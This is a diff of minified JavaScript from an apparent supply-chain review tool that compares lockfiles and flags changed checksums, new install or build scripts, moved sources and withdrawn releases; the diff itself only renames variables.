 installs.without)return[];const message=`${isFirst?"Every command":"A command"} that installed ${(0,import_shared_acegpst.code)(folder===""?".":folder)} did so \
@@ -11366,11 +11458,11 @@ of2,value):(0,import_shared_acegos.wordsOf)("setting",decides3==="unknown"||from
 const[readers2,needed2]=[import_shared_ce.READ_BY[setting44.from],import_shared_ce.READ_BY[other.from]],using=needed2.filter(each=>installers.includes(each));return(using.
 length>0?using:needed2).every(each=>readers2.includes(each))}var PROVEN=new Set(["https:","ssh:"]);function repositoryOwner(source){if(source.kind!=="git"||!URL.
 canParse(source.url))return null;const{protocol,host,pathname}=new URL(source.url),[,owner="",repository=""]=pathname.split("/");return!PROVEN.has(protocol)||host===
-""||owner===""||repository===""?null:`${host.toLowerCase()}/${host==="github.com"?owner.toLowerCase():owner}`}function newBuildSettings(before2,after2){const known13=new Set(
-before2.buildSettings.map(meaningOf4)),added=after2.buildSettings.filter(each=>!known13.has(meaningOf4(each)));return[...new Map(added.toReversed().map(each=>[meaningOf4(
+""||owner===""||repository===""?null:`${host.toLowerCase()}/${host==="github.com"?owner.toLowerCase():owner}`}function newBuildSettings(before3,after2){const known13=new Set(
+before3.buildSettings.map(meaningOf4)),added=after2.buildSettings.filter(each=>!known13.has(meaningOf4(each)));return[...new Map(added.toReversed().map(each=>[meaningOf4(
 each),each])).values()].reverse()}function toldBy(settings3){const told3=new Set(settings3.map(({of:of2,source})=>source&&JSON.stringify([of2,originOf4(source)])));
-return({ecosystem,name,source})=>ecosystem==="cargo"&&told3.has(JSON.stringify([name,originOf4(source)]))}function buildSettingChanges(added,before2){if(added.length===
-0)return[];const standing2={settings:Map.groupBy(before2.buildSettings,subjectOf2),owners:ownersIn(before2)};return[...Map.groupBy(added,causeOf3).values()].flatMap(
+return({ecosystem,name,source})=>ecosystem==="cargo"&&told3.has(JSON.stringify([name,originOf4(source)]))}function buildSettingChanges(added,before3){if(added.length===
+0)return[];const standing2={settings:Map.groupBy(before3.buildSettings,subjectOf2),owners:ownersIn(before3)};return[...Map.groupBy(added,causeOf3).values()].flatMap(
 group2=>{const[first]=group2;return first===void 0?[]:[changeOf4(first,group2,standing2)]})}function subjectOf2({name,of:of2}){return JSON.stringify([name,of2])}
 function ownersIn({packages,buildSettings}){const taken4=[...packages,...buildSettings].flatMap(({source})=>source??[]);return new Set(taken4.map(repositoryOwner))}
 function causeOf3(setting44){const{source}=setting44;return source?.kind==="git"||source?.kind==="registry"?JSON.stringify([setting44.of===null,originOf4(source)]):
@@ -11382,7 +11474,7 @@ old?.lines?.map(({written:written6})=>written6));return lines2.find(({written:wr
 if(source?.kind==="path")return"repository";const owner=source===void 0||of2===null?null:repositoryOwner(source);return owner!==null&&known13.has(owner)?"known":
 "stranger"}function witnessFor({name,of:of2,value,source,written:written6},text3){const common3={platform:"any",text:text3};return of2===null||source===void 0?{
 ...common3,kind:"config",written:written6,setting:name,extent:value}:{...common3,kind:"package",ecosystem:"cargo",name:of2,version:"*",source:(0,import_shared_ce.sourceText)(
-source)}}function policyChanges(base,head){const before2=policiesIn4(base),changes2=policiesIn4(head).flatMap(policy=>{const old=before2.find(({asked:asked4})=>asked4===
+source)}}function policyChanges(base,head){const before3=policiesIn4(base),changes2=policiesIn4(head).flatMap(policy=>{const old=before3.find(({asked:asked4})=>asked4===
 policy.asked);return old===void 0?[]:[...approvalChanges(old,policy),...checkChanges(old,policy)]});return[...new Map(changes2.toReversed().map(change2=>[change2.
 identity,change2])).values()].reverse()}function policiesIn4(grants){return grants.filter(grant2=>grant2.kind==="crate-policy")}function approvalChanges(old,policy){
 return newApprovals(old,policy).map(setting44=>{const{of:of2,written:written6,at:at2}=setting44,text3=`lets ${of2} pass by ${written6}`;return{...changeOf5(setting44,
@@ -11398,12 +11490,12 @@ value===""?[]:value.split(`
 `))}function placeFor({name,of:of2},{settings:settings3,path}){return settings3.find(each=>each.decides==="guard"&&each.name===name&&each.of===of2)?.at??{path,line:1,
 column:1,endLine:1}}function changeOf5(setting44,{folder},what){const{name,of:of2,value,written:written6}=setting44;return{domain:"packages",direction:"widened",
 ecosystem:"cargo",setting:setting44,packages:of2===null?[]:[of2],owner:"stranger",folder,witness:{kind:"config",platform:"any",written:written6,setting:name,extent:of2??
-value,text:`cargo deny check bans  # ${what}`}}}function broughtBy(each,before2,after2){if(before2.named(each).packages.length>0)return null;for(const name of each.
-path.slice(0,-1).reverse()){const moves=movesOf({ecosystem:each.ecosystem,name},before2,after2);if(moves.includes("compatible"))return name;if(moves.length>0&&!moves.
-includes("same"))return null}return null}function movesOf(asking,before2,after2){const known13=before2.named(asking);return known13.packages.length===0?[]:after2.
-named(asking).packages.filter(({source})=>source.kind!=="path").map(it2=>moveBetween(known13.nearest(it2),it2))}function changedChecksums(before2,after2){return pinned(
-before2,after2,"less")}function otherHashes(before2,after2){return pinned(before2,after2,"unknown").filter(({asks,unknown:unknown3})=>asks===null||unknown3!==null||
-asks.kind==="npm package"&&asks.integrity==="")}function pinned(before2,after2,wanted){const known13=Map.groupBy(before2.packages,bytesOf2),changed=after2.packages.
+value,text:`cargo deny check bans  # ${what}`}}}function broughtBy(each,before3,after2){if(before3.named(each).packages.length>0)return null;for(const name of each.
+path.slice(0,-1).reverse()){const moves=movesOf({ecosystem:each.ecosystem,name},before3,after2);if(moves.includes("compatible"))return name;if(moves.length>0&&!moves.
+includes("same"))return null}return null}function movesOf(asking,before3,after2){const known13=before3.named(asking);return known13.packages.length===0?[]:after2.
+named(asking).packages.filter(({source})=>source.kind!=="path").map(it2=>moveBetween(known13.nearest(it2),it2))}function changedChecksums(before3,after2){return pinned(
+before3,after2,"less")}function otherHashes(before3,after2){return pinned(before3,after2,"unknown").filter(({asks,unknown:unknown3})=>asks===null||unknown3!==null||
+asks.kind==="npm package"&&asks.integrity==="")}function pinned(before3,after2,wanted){const known13=Map.groupBy(before3.packages,bytesOf2),changed=after2.packages.
 filter(each=>{const twins=twinsOf(each,known13.get(bytesOf2(each))??[]),pinnings=new Set(twins.map(twin=>pinningOf(twin.checksum,each.checksum)));return twins.length===
 0||pinnings.has("as much")?!1:pinnings.has("unknown")?wanted==="unknown":wanted==="less"});return[...Map.groupBy(changed,each=>JSON.stringify([bytesOf2(each),each.
 checksum])).values()].flatMap(group2=>group2.slice(0,1))}function twinsOf({at:at2,checksum:now},old){const here=old.filter(each=>each.at.path===at2.path),nearest3=here.
@@ -11415,21 +11507,21 @@ from&&originOf4(from.source),originOf4(it2.source),tie==="release"])}default:ret
 from,each),by!==null,each.outcome,each.checksum===null,each.listing];return JSON.stringify([news.rule,each.ecosystem,each.at.path,...grave])}function asOne(group2){
 const[first]=group2;if(first===void 0)return[];const all=group2.flatMap(each=>each.all);if(first.news.rule!=="packages/package-added")return[{...first,all}];const nearestFirst=group2.
 flatMap(({news})=>news.rule==="packages/package-added"?news.added:[]).toSorted((one3,other)=>one3.path.length-other.path.length);return[{...first,all,news:{...first.
-news,added:nearestFirst}}]}function newSteps(before2,after2){return stepsTaken(after2).filter(taken4=>!before2.named(taken4.package).packages.some(other=>isOpen3(
-other)||matches2(other,taken4)))}function unsettled(before2,after2){const result2=new Set(after2.packages.filter(each=>mayBringSteps(each,before2)));for(const taken4 of stepsTaken(
-after2)){const old=before2.named(taken4.package).packages;if(old.some(other=>matches2(other,taken4)))continue;const{version,checksum}=taken4.package;if(!(old.some(
-other=>other.source.kind!=="path"&&other.version===version&&other.checksum===checksum)&&before2.ran(taken4.package)))for(const other of old)isOpen3(other)&&result2.
-add(other)}return[...result2]}function mayBringSteps(each,before2){if(each.unknown===null||each.outcome!=="runs"||before2.ran(each))return!1;const ranScripts=({
-steps,outcome:outcome2})=>steps?.includes("install-script")&&outcome2==="runs";return each.ecosystem==="cargo"||!before2.named(each).packages.some(ranScripts)}function isOpen3({
+news,added:nearestFirst}}]}function newSteps(before3,after2){return stepsTaken(after2).filter(taken4=>!before3.named(taken4.package).packages.some(other=>isOpen3(
+other)||matches2(other,taken4)))}function unsettled(before3,after2){const result2=new Set(after2.packages.filter(each=>mayBringSteps(each,before3)));for(const taken4 of stepsTaken(
+after2)){const old=before3.named(taken4.package).packages;if(old.some(other=>matches2(other,taken4)))continue;const{version,checksum}=taken4.package;if(!(old.some(
+other=>other.source.kind!=="path"&&other.version===version&&other.checksum===checksum)&&before3.ran(taken4.package)))for(const other of old)isOpen3(other)&&result2.
+add(other)}return[...result2]}function mayBringSteps(each,before3){if(each.unknown===null||each.outcome!=="runs"||before3.ran(each))return!1;const ranScripts=({
+steps,outcome:outcome2})=>steps?.includes("install-script")&&outcome2==="runs";return each.ecosystem==="cargo"||!before3.named(each).packages.some(ranScripts)}function isOpen3({
 steps,unknown:unknown3}){return steps===null&&unknown3!==null}function stepsTaken(inventory){const taken4=new Map;for(const each of inventory.packages)for(const step of import_shared_ce.BUILD_STEPS){
 const key3=JSON.stringify([each.ecosystem,each.name,step,each.outcome]);each.steps?.includes(step)===!0&&each.outcome!=="never"&&!taken4.has(key3)&&taken4.set(key3,
 {step,package:each})}return[...taken4.values()]}function matches2(old,{step,package:{outcome:outcome2}}){return old.steps?.includes(step)===!0&&(old.outcome==="\
-runs"||old.outcome===outcome2)}var MOST_EDITS=500,MOST_LINES7=200,MOST_CHARACTERS=16e3,LONGEST_LINE8=200;function scriptDifference(before2,after2){const[old,now]=[
-before2.text,after2?.text??null];if(old===null||now===null||old===now)return null;const patch=(0,import_shared_ce.structuredPatch)("","",old,now,"","",{context:3,
+runs"||old.outcome===outcome2)}var MOST_EDITS=500,MOST_LINES8=200,MOST_CHARACTERS=16e3,LONGEST_LINE8=200;function scriptDifference(before3,after2){const[old,now]=[
+before3.text,after2?.text??null];if(old===null||now===null||old===now)return null;const patch=(0,import_shared_ce.structuredPatch)("","",old,now,"","",{context:3,
 maxEditLength:MOST_EDITS});if(patch===void 0)return null;const all=patch.hunks.flatMap(({oldStart,oldLines,newStart,newLines,lines:lines3})=>[`@@ -${oldStart},${oldLines}\
- +${newStart},${newLines} @@`,...lines3]),lines2=all.slice(0,MOST_LINES7).map(line=>line.slice(0,LONGEST_LINE8));let room=MOST_CHARACTERS;const kept=lines2.filter(
-line=>(room-=line.length,room>=0));return{lines:kept,left:all.length-kept.length}}var MOST_DIFFERENCES=10;function codeNews(before2,after2,wayTo2){const ran=[...newlyRunning(
-before2,after2,wayTo2),...changedCode(before2,after2,wayTo2)];return[...Map.groupBy(ran,({package:each,running,rule,wasBlocked})=>JSON.stringify([rule,running.step,
+ +${newStart},${newLines} @@`,...lines3]),lines2=all.slice(0,MOST_LINES8).map(line=>line.slice(0,LONGEST_LINE8));let room=MOST_CHARACTERS;const kept=lines2.filter(
+line=>(room-=line.length,room>=0));return{lines:kept,left:all.length-kept.length}}var MOST_DIFFERENCES=10;function codeNews(before3,after2,wayTo2){const ran=[...newlyRunning(
+before3,after2,wayTo2),...changedCode(before3,after2,wayTo2)];return[...Map.groupBy(ran,({package:each,running,rule,wasBlocked})=>JSON.stringify([rule,running.step,
 each.ecosystem,each.at.path,each.outcome,wasBlocked])).values()].flatMap(group2=>{const sorted2=group2.toSorted((one3,other)=>gravity(other.running)-gravity(one3.
 running)),[first]=sorted2;if(first===void 0)return[];const running=sorted2.map((each,at2)=>at2<MOST_DIFFERENCES?withDifference(each):each.running);return[{news:newsOf2(
 first,running),packages:sorted2.map(each=>each.package)}]})}function withDifference({running,package:each,old}){return old===void 0||(0,import_shared_ce.severityOfCode)(
@@ -11438,29 +11530,29 @@ CODE_CLASSES.length:CODE_CLASSES.indexOf(running.class),nearness=99-Math.min(run
 running))*1e3+ofClass*100+nearness}function newsOf2({rule,running:{step},package:each,wasBlocked},running){if(rule==="build/build-code-changed")return{rule,step,
 running};switch(step){case"build-script":return{rule:"build/build-script-added",step,running};case"proc-macro":return{rule:"build/proc-macro-added",step,running};case"\
 install-script":return{rule:"build/install-script-added",step,running,runs:each.outcome==="runs",wasBlocked}}}var RULES={"build-script":"build/build-script-adde\
-d","proc-macro":"build/proc-macro-added","install-script":"build/install-script-added"};function newlyRunning(before2,after2,wayTo2){return newSteps(before2,after2).
+d","proc-macro":"build/proc-macro-added","install-script":"build/install-script-added"};function newlyRunning(before3,after2,wayTo2){return newSteps(before3,after2).
 flatMap(({step,package:first})=>{const taking=after2.named(first).packages.filter(each=>each.outcome===first.outcome&&each.steps?.includes(step)===!0);return gravest(
-taking.map(each=>newlyTaken(each,step,before2,after2,wayTo2)))})}function newlyTaken(each,step,before2,after2,wayTo2){const from=before2.named(each).nearest(each),
-by=broughtBy(each,before2,after2);return{package:each,running:{...runningOf(each,step,from,null,wayTo2(each)),broughtBy:by},rule:RULES[step],wasBlocked:from?.steps?.
-includes("install-script")===!0}}function changedCode(before2,after2,wayTo2){const changed=after2.packages.flatMap(each=>{if(each.outcome!=="runs"||each.code.length===
-0||before2.same(each).length>0)return[];const from=before2.named(each).nearest(each);return each.code.flatMap(({step,hash})=>{const old=codeOf8(from,step)??codeOfAny(
-each,step,before2);if(old===void 0||old.hash===hash)return[];const running=runningOf(each,step,from,old.class,wayTo2(each));return[{package:each,running,rule:"b\
+taking.map(each=>newlyTaken(each,step,before3,after2,wayTo2)))})}function newlyTaken(each,step,before3,after2,wayTo2){const from=before3.named(each).nearest(each),
+by=broughtBy(each,before3,after2);return{package:each,running:{...runningOf(each,step,from,null,wayTo2(each)),broughtBy:by},rule:RULES[step],wasBlocked:from?.steps?.
+includes("install-script")===!0}}function changedCode(before3,after2,wayTo2){const changed=after2.packages.flatMap(each=>{if(each.outcome!=="runs"||each.code.length===
+0||before3.same(each).length>0)return[];const from=before3.named(each).nearest(each);return each.code.flatMap(({step,hash})=>{const old=codeOf8(from,step)??codeOfAny(
+each,step,before3);if(old===void 0||old.hash===hash)return[];const running=runningOf(each,step,from,old.class,wayTo2(each));return[{package:each,running,rule:"b\
 uild/build-code-changed",wasBlocked:!1,old}]})});return[...Map.groupBy(changed,({package:{ecosystem,name},running})=>JSON.stringify([ecosystem,name,running.step])).
-values()].flatMap(gravest)}function codeOf8(each,step){return each?.code.find(code2=>code2.step===step)}function codeOfAny(each,step,before2){const took=before2.
+values()].flatMap(gravest)}function codeOf8(each,step){return each?.code.find(code2=>code2.step===step)}function codeOfAny(each,step,before3){const took=before3.
 named(each).packages.filter(old=>codeOf8(old,step)!==void 0);return codeOf8(nearestOf(took)(each),step)}function gravest(all){const[first]=all.toSorted((one3,other)=>gravity(
 other.running)-gravity(one3.running));if(first===void 0)return[];const sources=new Map(all.map(each=>[(0,import_shared_ce.sourceText)(each.package.source),each.
 package.source]));return[{...first,running:{...first.running,sources:[...sources.values()]}}]}function runningOf(each,step,from,classBefore,way){const code2=each.
 code.find(one3=>one3.step===step);return{...way,step,name:each.name,version:each.version,sources:[each.source],from:from?.version??null,moved:moveBetween(from,each),
-broughtBy:null,class:code2?.class??null,classBefore,telling:code2?.telling??[],difference:null,links:each.links}}function sourceTies(before2,after2){const owners=new Set(
-before2.packages.map(({source})=>repositoryOwner(source))),released2=namedByReleases(after2);return(each,from)=>{if(released2.has(key(each,each)))return"release";
+broughtBy:null,class:code2?.class??null,classBefore,telling:code2?.telling??[],difference:null,links:each.links}}function sourceTies(before3,after2){const owners=new Set(
+before3.packages.map(({source})=>repositoryOwner(source))),released2=namedByReleases(after2);return(each,from)=>{if(released2.has(key(each,each)))return"release";
 if(from!==void 0&&isSameCommit(from,each))return"same commit";const owner=repositoryOwner(each.source);return owner!==null&&owners.has(owner)?"known owner":from===
 void 0&&isOfManifest(each)?"manifest":"none"}}function namedByReleases({packages}){const found12=new Set;for(const each of packages)if(!(each.ecosystem!=="npm"||
 each.source.kind!=="registry"))for(const need of each.needs)found12.add(`${each.at.path} ${need}`);return found12}function key({at:at2},{name,version}){return`${at2.
 path} ${name} ${version}`}function isSameCommit({source:old},{source}){return old.kind==="git"&&source.kind==="git"&&old.commit!==null&&old.commit===source.commit}
-function isOfManifest({ecosystem,source,path}){return ecosystem==="cargo"&&source.kind==="git"&&path.length===1}var OWN6=new Set(["path","bundled"]);function movedSources(before2,after2){
-const moved=new Map;for(const each of after2.packages){const origin=originOf4(each.source);if(OWN6.has(origin))continue;const old=before2.named(each);if(!(old.packages.
-length===0?isForeign2(each,origin,before2):!old.origins.has(origin)))continue;const key3=JSON.stringify([(0,import_shared_ce.packageKey)(each),origin]);moved.has(
-key3)||moved.set(key3,each)}return[...moved.values()]}function isForeign2({ecosystem},origin,before2){return origin!=="registry"&&!before2.takesFrom(ecosystem,origin)}
+function isOfManifest({ecosystem,source,path}){return ecosystem==="cargo"&&source.kind==="git"&&path.length===1}var OWN6=new Set(["path","bundled"]);function movedSources(before3,after2){
+const moved=new Map;for(const each of after2.packages){const origin=originOf4(each.source);if(OWN6.has(origin))continue;const old=before3.named(each);if(!(old.packages.
+length===0?isForeign2(each,origin,before3):!old.origins.has(origin)))continue;const key3=JSON.stringify([(0,import_shared_ce.packageKey)(each),origin]);moved.has(
+key3)||moved.set(key3,each)}return[...moved.values()]}function isForeign2({ecosystem},origin,before3){return origin!=="registry"&&!before3.takesFrom(ecosystem,origin)}
 function lockfileGraph({packages}){const needs=new Map(packages.map(each=>[nodeOf(each),[]])),users=new Map(packages.map(each=>[nodeOf(each),[]]));for(const each of packages)
 for(const need of each.needs){const needed2=`${each.at.path} ${need}`;needs.has(needed2)&&(needs.get(nodeOf(each))?.push(needed2),users.get(needed2)?.push(each))}
 const directs=packages.filter(({path})=>path.length===1).map(nodeOf);return{needs,users,directs:[...new Set(directs)]}}function nodeOf({at:at2,name,version}){return`${at2.
@@ -11468,10 +11560,10 @@ path} ${name} ${version}`}var MOST_STEPS11=25e4;function directsLeadingTo(wanted
 for(const user of users.get(node)??[])leading.add(nodeOf(user));const edges=new Map([...leading].map(node=>[node,needs.get(node)?.filter(each=>leading.has(each))??
 []])),counts3=new Map;let steps=0;for(const direct of directs){if(!leading.has(direct))continue;const reached5=new Set([direct]);for(const node of reached5){const next2=edges.
 get(node)??[];if(steps+=next2.length+1,steps>MOST_STEPS11)return new Map;for(const each of next2)reached5.add(each);counts3.set(node,(counts3.get(node)??0)+1)}}
-return counts3}function waysIn(before2,after2){const isNew2=each=>!before2.isEmpty(each.ecosystem)&&before2.named(each).packages.length===0;let known13;return each=>{
-const{path,neededOnly:neededOnly3}=each;return isNew2(each)?(known13??=new NewWays(before2,after2,isNew2),{path,neededOnly:neededOnly3,newEdge:known13.newEdgeTo(
-each),directs:known13.directsTo(each)}):{path,neededOnly:neededOnly3,newEdge:null,directs:null}}}var NewWays=class{#before;#graph;#counts;#users=new Map;#neededBefore=new Map;constructor(before2,after2,isNew2){
-this.#before=before2,this.#graph=lockfileGraph(after2),this.#counts=directsLeadingTo(after2.packages.filter(isNew2).map(nodeOf),this.#graph)}directsTo(each){return this.#counts.
+return counts3}function waysIn(before3,after2){const isNew2=each=>!before3.isEmpty(each.ecosystem)&&before3.named(each).packages.length===0;let known13;return each=>{
+const{path,neededOnly:neededOnly3}=each;return isNew2(each)?(known13??=new NewWays(before3,after2,isNew2),{path,neededOnly:neededOnly3,newEdge:known13.newEdgeTo(
+each),directs:known13.directsTo(each)}):{path,neededOnly:neededOnly3,newEdge:null,directs:null}}}var NewWays=class{#before;#graph;#counts;#users=new Map;#neededBefore=new Map;constructor(before3,after2,isNew2){
+this.#before=before3,this.#graph=lockfileGraph(after2),this.#counts=directsLeadingTo(after2.packages.filter(isNew2).map(nodeOf),this.#graph)}directsTo(each){return this.#counts.
 get(nodeOf(each))??null}newEdgeTo(each){const[direct,...others]=this.#chainTo(each);if(direct===void 0)return null;if(!this.#before.named(direct).packages.some(
 ({path})=>path.length===1))return{by:null,to:direct.name};let by=direct;for(const to of others){if(!this.#neededAtBase(by).has(to.name))return{by:(0,import_shared_ce.releaseText)(
 by),to:to.name};by=to}return null}#chainTo(end){const chain=[end];if(end.path.length===0||end.path.includes("\u2026"))return[];for(let each=end;each.path.length>
@@ -11479,28 +11571,28 @@ by),to:to.name};by=to}return null}#chainTo(end){const chain=[end];if(end.path.le
 get(each);const{path}=each,user=this.#graph.users.get(nodeOf(each))?.find(other=>other.path.length===path.length-1&&other.name===path.at(-2));return this.#users.
 set(each,user),user}#neededAtBase(each){const key3=(0,import_shared_ce.packageKey)(each),known13=this.#neededBefore.get(key3);if(known13!==void 0)return known13;
 const needs=this.#before.named(each).packages.flatMap(old=>old.needs.map(nameIn8)),names4=new Set(needs);return this.#neededBefore.set(key3,names4),names4}};function nameIn8(need){
-return need.slice(0,need.lastIndexOf(" "))}function differences(before2,after2,replaced2=[]){const wayTo2=waysIn(before2,after2),of2=(each,tell)=>{const origin={
-from:before2.named(each).nearest(each),way:wayTo2(each),broughtBy:broughtBy(each,before2,after2),lockfileIsNew:before2.isEmpty(each.ecosystem)};return{news:tell(
-origin),package:each,all:[each],...origin}},tieOf=sourceTies(before2,after2),found12=[...changedChecksums(before2,after2).map(each=>of2(each,({from})=>({rule:"p\
-ackages/checksum-changed",checksum:each.checksum,checksumBefore:from?.checksum??null}))),...movedSources(before2,after2).map(each=>of2(each,({from})=>({rule:"pa\
-ckages/source-changed",source:each.source,sourceBefore:from?.source??null,tie:tieOf(each,from)}))),...otherBytes2(before2,after2).map(each=>of2(each,()=>({rule:"\
-packages/bytes-unpublished",checksum:each.checksum}))),...newlyUnreached(before2,after2).map(each=>of2(each,()=>({rule:"packages/unreached"}))),...withdrawnReleases(
-before2,after2).map(({package:each,listing})=>of2(each,()=>({rule:"packages/version-withdrawn",listing}))),...codeNews(before2,after2,wayTo2).flatMap(({news,packages})=>{
-const[first]=packages;return first===void 0?[]:[{...of2(first,()=>news),all:packages}]}),...newPlugins(before2,after2).map(each=>{const offer=offerOf(each,before2.
-offers,after2.offers);return of2(each,()=>({rule:"packages/plugin-added",offer}))}),...newLinks(before2,after2).map(({package:each,links})=>of2(each,origin=>({rule:"\
-packages/links-added",links,broughtBy:origin.broughtBy})))],told3=new Set(found12.flatMap(({all})=>all.map(import_shared_ce.packageKey))),plain8=newNames(before2,
+return need.slice(0,need.lastIndexOf(" "))}function differences(before3,after2,replaced2=[]){const wayTo2=waysIn(before3,after2),of2=(each,tell)=>{const origin={
+from:before3.named(each).nearest(each),way:wayTo2(each),broughtBy:broughtBy(each,before3,after2),lockfileIsNew:before3.isEmpty(each.ecosystem)};return{news:tell(
+origin),package:each,all:[each],...origin}},tieOf=sourceTies(before3,after2),found12=[...changedChecksums(before3,after2).map(each=>of2(each,({from})=>({rule:"p\
+ackages/checksum-changed",checksum:each.checksum,checksumBefore:from?.checksum??null}))),...movedSources(before3,after2).map(each=>of2(each,({from})=>({rule:"pa\
+ckages/source-changed",source:each.source,sourceBefore:from?.source??null,tie:tieOf(each,from)}))),...otherBytes2(before3,after2).map(each=>of2(each,()=>({rule:"\
+packages/bytes-unpublished",checksum:each.checksum}))),...newlyUnreached(before3,after2).map(each=>of2(each,()=>({rule:"packages/unreached"}))),...withdrawnReleases(
+before3,after2).map(({package:each,listing})=>of2(each,()=>({rule:"packages/version-withdrawn",listing}))),...codeNews(before3,after2,wayTo2).flatMap(({news,packages})=>{
+const[first]=packages;return first===void 0?[]:[{...of2(first,()=>news),all:packages}]}),...newPlugins(before3,after2).map(each=>{const offer=offerOf(each,before3.
+offers,after2.offers);return of2(each,()=>({rule:"packages/plugin-added",offer}))}),...newLinks(before3,after2).map(({package:each,links})=>of2(each,origin=>({rule:"\
+packages/links-added",links,broughtBy:origin.broughtBy})))],told3=new Set(found12.flatMap(({all})=>all.map(import_shared_ce.packageKey))),plain8=newNames(before3,
 after2).filter(each=>!told3.has((0,import_shared_ce.packageKey)(each))),isTold2=toldBy(replaced2),isNews=({news,package:each})=>news.rule!=="packages/source-cha\
 nged"||!isTold2(each);return folded3([...found12.filter(isNews),...plain8.map(each=>of2(each,({lockfileIsNew,way})=>{const{name,version}=each;return{rule:"packa\
-ges/package-added",lockfileIsNew,added:[{name,version,...way}]}}))])}function newNames(before2,after2){const names4=new Map;for(const each of after2.packages)each.
-source.kind==="path"||names4.has((0,import_shared_ce.packageKey)(each))||before2.named(each).packages.length>0||names4.set((0,import_shared_ce.packageKey)(each),
-each);return[...names4.values()]}var PLUGIN2={cargo:/^tauri-plugin-/,npm:/^@tauri-apps\/plugin-/};function newPlugins(before2,after2){return newNames(before2,after2).
-filter(each=>PLUGIN2[each.ecosystem].test(each.name))}function newLinks(before2,after2){const linking=new Map;for(const each of after2.packages){const{packages}=before2.
+ges/package-added",lockfileIsNew,added:[{name,version,...way}]}}))])}function newNames(before3,after2){const names4=new Map;for(const each of after2.packages)each.
+source.kind==="path"||names4.has((0,import_shared_ce.packageKey)(each))||before3.named(each).packages.length>0||names4.set((0,import_shared_ce.packageKey)(each),
+each);return[...names4.values()]}var PLUGIN2={cargo:/^tauri-plugin-/,npm:/^@tauri-apps\/plugin-/};function newPlugins(before3,after2){return newNames(before3,after2).
+filter(each=>PLUGIN2[each.ecosystem].test(each.name))}function newLinks(before3,after2){const linking=new Map;for(const each of after2.packages){const{packages}=before3.
 named(each);each.links===null||packages.length===0||linking.has((0,import_shared_ce.packageKey)(each))||packages.every(({links,unknown:unknown3})=>links===null&&
-unknown3===null)&&linking.set((0,import_shared_ce.packageKey)(each),{package:each,links:each.links})}return[...linking.values()]}function withdrawnReleases(before2,after2){
-return after2.packages.flatMap(each=>{const{listing}=each;return!(listing==="yanked"||listing==="withdrawn")||before2.same(each).length>0?[]:[{package:each,listing}]})}
-function otherBytes2(before2,after2){return after2.packages.filter(each=>each.listing==="other-bytes"&&before2.same(each).length===0)}function newlyUnreached(before2,after2){
+unknown3===null)&&linking.set((0,import_shared_ce.packageKey)(each),{package:each,links:each.links})}return[...linking.values()]}function withdrawnReleases(before3,after2){
+return after2.packages.flatMap(each=>{const{listing}=each;return!(listing==="yanked"||listing==="withdrawn")||before3.same(each).length>0?[]:[{package:each,listing}]})}
+function otherBytes2(before3,after2){return after2.packages.filter(each=>each.listing==="other-bytes"&&before3.same(each).length===0)}function newlyUnreached(before3,after2){
 const leading=new Set(after2.packages.flatMap(({path,at:at2})=>path.length>0?[at2.path]:[]));return after2.packages.filter(each=>each.path.length===0&&each.source.
-kind!=="path"&&leading.has(each.at.path)&&!before2.named(each).packages.some(other=>bytesOf2(other)===bytesOf2(each)))}function extentOf5(change2){return"runnin\
+kind!=="path"&&leading.has(each.at.path)&&!before3.named(each).packages.some(other=>bytesOf2(other)===bytesOf2(each)))}function extentOf5(change2){return"runnin\
 g"in change2?{code:change2.running.map(codeOf9).sort(),packages:[...change2.packages].sort()}:"source"in change2&&"packages"in change2?{packages:[...change2.packages].
 sort(),from:[JSON.stringify(change2.source)]}:"owners"in change2?{packages:[...change2.packages].sort()}:{what:[change2.identity]}}function codeOf9({name,version,
 step,class:seen,sources}){const from=sources.map(import_shared_ce.sourceText).sort().join(" and ");return`${name} ${version} ${step} ${seen??"not looked into"} \
@@ -11512,34 +11604,34 @@ return[{...first,packages:[...new Set(packages)],written:written6,identity:ident
 named12.includes(each))}function lockedFor(folder,{packages,unread:unread4}){const folders=new Set(withAncestors2(folder)),own=[...new Set([...packages.flatMap(
 ({ecosystem,at:at2})=>ecosystem==="npm"?at2.path:[]),...unread4.map(({path})=>path)])].filter(path=>folders.has(folderOf5(path)));return import_shared_ce.INSTALLERS.
 filter(each=>own.some(path=>(0,import_shared_ce.installerOf)(path)===each))}function installersIn(policy,inventory){const locked=lockedFor(policy.folder,inventory);
-return import_shared_ce.INSTALLERS.filter(each=>namedInstallers(policy).includes(each)||locked.includes(each))}function newlyCounting(before2,after2){const counted2=new Set(
-before2.policies.map(({lock})=>lock)),there=new Set(before2.packages.map(({at:at2})=>at2.path)),gaps=after2.policies.flatMap(({folder,lock})=>{const old=before2.
-policies.find(each=>each.folder===folder);if(lock===null||old===void 0||counted2.has(lock)||!there.has(lock))return[];const known13=new Set(before2.packages.filter(
+return import_shared_ce.INSTALLERS.filter(each=>namedInstallers(policy).includes(each)||locked.includes(each))}function newlyCounting(before3,after2){const counted2=new Set(
+before3.policies.map(({lock})=>lock)),there=new Set(before3.packages.map(({at:at2})=>at2.path)),gaps=after2.policies.flatMap(({folder,lock})=>{const old=before3.
+policies.find(each=>each.folder===folder);if(lock===null||old===void 0||counted2.has(lock)||!there.has(lock))return[];const known13=new Set(before3.packages.filter(
 ({at:at2})=>at2.path===old.lock).map(releaseOf2)),added=after2.packages.filter(each=>each.at.path===lock&&!known13.has(releaseOf2(each)));return gapOf3(lock,old.
-lock,added)});return[...new Map([...gaps,...takenUp(before2,after2)].map(gap3=>[gap3.rests,gap3])).values()]}function takenUp(before2,after2){return after2.policies.
-flatMap(policy=>{const{folder}=policy,old=before2.policies.find(each=>each.folder===folder),[known13,managers]=[old===void 0?[]:namedInstallers(old),namedInstallers(
+lock,added)});return[...new Map([...gaps,...takenUp(before3,after2)].map(gap3=>[gap3.rests,gap3])).values()]}function takenUp(before3,after2){return after2.policies.
+flatMap(policy=>{const{folder}=policy,old=before3.policies.find(each=>each.folder===folder),[known13,managers]=[old===void 0?[]:namedInstallers(old),namedInstallers(
 policy)];if(known13.length===0)return[];const isOf3=(installers,each)=>each.ecosystem==="npm"&&folderOf5(each.at.path)===folder&&installers.includes(each.manager),
-taken4=new Set(before2.packages.filter(each=>isOf3(known13,each)).map(releaseOf2)),there=new Set(before2.packages.map(({at:at2})=>at2.path)),added=after2.packages.
+taken4=new Set(before3.packages.filter(each=>isOf3(known13,each)).map(releaseOf2)),there=new Set(before3.packages.map(({at:at2})=>at2.path)),added=after2.packages.
 filter(each=>isOf3(managers,each)&&there.has(each.at.path)&&!taken4.has(releaseOf2(each))),isNew2=({manager})=>!known13.some(each=>each===manager);return[...Map.
